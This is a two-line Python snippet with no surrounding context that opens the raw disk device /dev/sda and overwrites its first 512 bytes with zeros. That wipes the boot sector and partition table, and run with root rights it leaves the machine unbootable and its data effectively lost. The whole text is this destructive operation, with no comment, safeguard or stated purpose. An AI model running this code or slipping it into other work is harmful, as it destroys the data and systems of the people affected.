with open("/dev/sda", "r+b") as disk:
    disk.write(b"\0" * 512)
